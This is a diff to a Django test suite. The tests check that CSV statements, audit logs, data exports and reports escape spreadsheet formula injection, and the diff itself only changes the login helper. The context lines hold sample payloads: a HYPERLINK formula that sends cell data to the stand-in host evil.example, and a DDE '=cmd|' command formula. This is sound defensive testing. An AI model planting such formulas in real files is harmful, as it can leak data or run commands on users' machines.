@@ -21,7 +21,8 @@ from members.models import Category, Person
 from tests.base import CastTestCase
 from tests.members.support import make_listing
 from tests.reports.commissioning_data import END, START, KnownQuarter, frozen
-from tests.reports.support import KnownMonth, at
+from tests.reports.support import KnownMonth
+from tests.support import at, user_of
 
 QUARTER = {"start": START.isoformat(), "end": END.isoformat()}
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click for your statement")'
@@ -55,7 +56,7 @@ class TheStatement(CastTestCase):
             details=exchanges.Details(effective_date=timezone.localdate(), description=HYPERLINK),
         )
         exchanges.confirm_exchange(exchange=recorded, person=self.alice)
-        self.client.force_login(self.alice.user)
+        self.client.force_login(user_of(self.alice))
         response = self.client.get(reverse("statement", args=["riverside"]), {"format": "csv"})
         line = next(row for row in rows_of(response.content) if "HYPERLINK" in row[2])
         self.assertEqual(line[2], "'" + HYPERLINK)
@@ -76,7 +77,7 @@ class TheAuditTrail(CastTestCase):
             minutes=60,
             details=exchanges.Details(effective_date=timezone.localdate(), description="Lift"),
         )
-        self.client.force_login(self.brenda.user)
+        self.client.force_login(user_of(self.brenda))
         response = self.client.get(reverse("audit-log", args=["riverside"]), {"format": "csv"})
         names = [row[3] for row in rows_of(response.content)[1:]]
         self.assertIn("'=cmd|' /C calc'!A0", names)
@@ -86,7 +87,7 @@ class TheAuditTrail(CastTestCase):
 class TheDataExport(CastTestCase):
     def test_a_listing_title_is_text_in_the_export_zip(self):
         make_listing(self.riverside, self.alice, "+SUM(1,2)")
-        self.client.force_login(self.alice.user)
+        self.client.force_login(user_of(self.alice))
         response = self.client.get(reverse("profile-export"), {"format": "csv"})
         archive = zipfile.ZipFile(io.BytesIO(response.content))
         listings = list(csv.DictReader(io.StringIO(archive.read("listings.csv").decode())))
@@ -106,7 +107,7 @@ class TheMonthlyReport(KnownMonth, TestCase):
             self.captureOnCommitCallbacks(execute=True),
         ):
             call_command("monthly_reports", month=month, stdout=io.StringIO())
-        self.client.force_login(self.brenda.user)
+        self.client.force_login(user_of(self.brenda))
         response = self.client.get(reverse("report-csv", args=["riverside", month]))
         givers = [row[4] for row in rows_of(response.content) if row[2] == "givers_only"]
         self.assertEqual(givers, ["'@SUM(1+1)*cmd"])
@@ -129,7 +130,7 @@ class TheCommissionerReport(KnownQuarter, TestCase):
         traveller = frozen()
         traveller.start()
         self.addCleanup(traveller.stop)
-        self.client.force_login(self.cora.user)
+        self.client.force_login(user_of(self.cora))
 
     def download(self, format: str, **query: str) -> bytes:
         url = reverse(f"commissioner-report-{format}", args=["riverside"])
